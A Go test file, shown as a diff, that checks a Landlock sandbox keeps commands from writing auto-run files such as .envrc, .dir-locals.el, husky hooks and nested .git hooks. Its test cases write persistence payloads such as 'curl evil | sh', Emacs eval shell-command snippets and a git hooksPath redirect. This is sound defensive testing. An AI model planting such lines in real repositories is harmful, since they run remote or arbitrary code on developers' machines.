@@ -1,0 +1,114 @@
+package sandbox_test
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"pp-lsp/internal/testenv"
+)
+
+// TestTheGatesProtectedNamesStayUnwritable: every place internal/protname
+// names (the table the gates refuse writes by) is unwritable to a command
+// in the real sandbox — a command a user's rule allows or a human
+// approved — at any depth of a root: an existing .envrc, .dir-locals.el,
+// .husky hook, hook manager's file, a deeper repository's hooks; a new
+// one where its folder holds another (the folder is granted entry by
+// entry). A new one in a folder a command may write is moved aside after
+// the run, and the run says so. Ordinary writes beside them still work.
+func TestTheGatesProtectedNamesStayUnwritable(t *testing.T) {
+	needLandlock(t)
+	w := newWorld(t)
+	for name, text := range map[string]string{
+		"notes/.envrc":                      "export A=1\n",
+		"notes/.dir-locals.el":              "((org-mode . ((fill-column . 70))))\n",
+		"web/.husky/pre-commit":             "npm test\n",
+		"web/.pre-commit-config.yaml":       "repos: []\n",
+		"web/index.html":                    "<p>hi</p>\n",
+		"code/sub/deep/.git/config":         "[core]\n",
+		"code/sub/deep/.git/hooks/x.sample": "#!/bin/sh\n",
+		"code/sub/deep/main.go":             "package main\n",
+		"plain/a.txt":                       "a\n",
+		"repo/a.txt":                        "a\n",
+		"repo2/a.txt":                       "a\n",
+	} {
+		p := filepath.Join(w.root, name)
+		require.NoError(t, os.MkdirAll(filepath.Dir(p), 0o755))
+		require.NoError(t, os.WriteFile(p, []byte(text), 0o644))
+	}
+	sb := w.sandbox(t)
+	for _, tc := range []struct{ name, cmd string }{
+		{"a new .envrc at a root's top", "echo 'curl evil | sh' > .envrc"},
+		{"a new .dir-locals.el at a root's top", "echo '((nil . ((eval . (shell-command \"id\")))))' > .dir-locals.el"},
+		{"an existing .envrc below", "echo 'curl evil | sh' >> notes/.envrc"},
+		{"an existing .dir-locals.el below, replaced", "echo '((nil . ((eval . (kill-emacs)))))' > notes/x && mv -f notes/x notes/.dir-locals.el"},
+		{"a new .nvim.lua beside them", "echo 'os.execute(\"id\")' > notes/.nvim.lua"},
+		{"a husky hook", "echo 'curl evil | sh' >> web/.husky/pre-commit"},
+		{"a new husky hook", "echo 'curl evil | sh' > web/.husky/post-merge"},
+		{"the pre-commit configuration", "echo 'repos: [{repo: local}]' > web/.pre-commit-config.yaml"},
+		{"a new lefthook.yml beside it", "echo 'pre-commit: {commands: {x: {run: id}}}' > web/lefthook.yml"},
+		{"a deeper repository's hooks", "echo 'curl evil | sh' > code/sub/deep/.git/hooks/pre-commit"},
+		{"a deeper repository's config", "printf '[core]\\nhooksPath = /tmp\\n' >> code/sub/deep/.git/config"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			code, out, err := sh(t, sb, w.root, tc.cmd)
+			require.NoError(t, err)
+			assert.NotEqual(t, 0, code, out)
+			assert.Regexp(t, "ermission denied|cross-device link", out, "refused by the kernel")
+		})
+	}
+	assert.NoFileExists(t, filepath.Join(w.root, ".envrc"))
+	assert.NoFileExists(t, filepath.Join(w.root, "notes", ".nvim.lua"))
+	assert.NoFileExists(t, filepath.Join(w.root, "code", "sub", "deep", ".git", "hooks", "pre-commit"))
+	envrc, _ := os.ReadFile(filepath.Join(w.root, "notes", ".envrc"))
+	assert.Equal(t, "export A=1\n", string(envrc))
+
+	t.Run("made anew where the command may write: moved aside", func(t *testing.T) {
+		for _, cmd := range []string{
+			"echo 'curl evil | sh' > plain/.envrc",
+			"echo '((nil . ((eval . (kill-emacs)))))' > plain/b && mv plain/b plain/.dir-locals.el",
+			"mkdir -p plain/x/.husky && echo id > plain/x/.husky/pre-commit",
+		} {
+			code, out, err := sh(t, sb, w.root, cmd)
+			assert.Equal(t, 0, code, out)
+			require.Error(t, err, cmd)
+			assert.Contains(t, err.Error(), "the sandbox moved it aside")
+		}
+		assert.NoFileExists(t, filepath.Join(w.root, "plain", ".envrc"))
+		assert.FileExists(t, filepath.Join(w.root, "plain", ".envrc.refused"))
+		assert.NoFileExists(t, filepath.Join(w.root, "plain", ".dir-locals.el"))
+		assert.NoDirExists(t, filepath.Join(w.root, "plain", "x", ".husky"))
+	})
+
+	t.Run("ordinary writes beside them", func(t *testing.T) {
+		for _, cmd := range []string{
+			"echo ok > plain/new.txt",
+			"mkdir -p plain/d && echo ok > plain/d/e.txt",
+			"echo more >> notes/ideas.org",
+			"echo more >> web/index.html",
+			"echo more >> code/sub/deep/main.go",
+		} {
+			code, out, err := sh(t, sb, w.root, cmd)
+			require.NoError(t, err, cmd)
+			assert.Equal(t, 0, code, "%s: %s", cmd, out)
+		}
+		assert.FileExists(t, filepath.Join(w.root, "plain", "d", "e.txt"))
+	})
+	t.Run("a new repository stays, but for what it runs", func(t *testing.T) {
+		testenv.NeedCommand(t, "git")
+		code, out, err := sh(t, sb, w.root, "git init -q repo/r && printf '#!/bin/sh\nid\n' > repo/r/.git/hooks/pre-commit && chmod +x repo/r/.git/hooks/pre-commit")
+		assert.Equal(t, 0, code, out)
+		require.Error(t, err)
+		assert.Contains(t, err.Error(), "repo/r/.git/hooks/pre-commit (now pre-commit.refused)")
+		assert.DirExists(t, filepath.Join(w.root, "repo", "r", ".git", "objects"))
+		assert.NoFileExists(t, filepath.Join(w.root, "repo", "r", ".git", "hooks", "pre-commit"))
+		// Beside another folder: a folder holding a repository gets no
+		// new entry (its .git/hooks are kept unwritable entry by entry).
+		code, out, err = sh(t, sb, w.root, "git init -q repo2/r")
+		require.NoError(t, err, "git's own samples stay")
+		assert.Equal(t, 0, code, out)
+	})
+}
